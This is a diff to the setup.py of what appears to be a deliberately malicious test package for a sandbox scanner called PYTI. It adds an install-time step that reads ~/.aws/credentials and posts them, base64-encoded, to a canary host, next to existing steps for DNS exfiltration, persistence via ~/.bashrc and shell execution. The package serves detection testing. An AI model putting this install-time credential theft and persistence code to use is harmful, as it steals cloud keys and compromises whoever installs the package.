@@ -35,6 +35,19 @@ def _dns_exfiltrate():
     socket.getaddrinfo("aGVsbG8.exfil.pyti-canary.invalid", 443)
 
 
+def _upload():
+    # Posts the AWS key, base64-encoded, with the host name hex-encoded in the query, to a
+    # collector by name. Inside PYTI's sandbox the name resolves to PYTI's sinkhole, which
+    # records the request and answers it; nothing leaves the sandbox.
+    import base64
+    import urllib.request
+
+    with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
+        key = f.read()
+    url = "http://collect.pyti-canary.invalid/u?h=" + socket.gethostname().encode().hex()
+    urllib.request.urlopen(urllib.request.Request(url, data=b"k=" + base64.b64encode(key)), timeout=5)
+
+
 def _persist():
     with open(os.path.expanduser("~/.bashrc"), "a") as f:
         f.write("\n# added by pyti-example-badactor\n")
@@ -44,7 +57,7 @@ def _run_shell():
     subprocess.run(["sh", "-c", "id; uname -a"], timeout=10, check=False)
 
 
-for _step in (_read_credentials, _connect_out, _dns_exfiltrate, _persist, _run_shell):
+for _step in (_read_credentials, _connect_out, _dns_exfiltrate, _upload, _persist, _run_shell):
     _quietly(_step)
 
 setup(
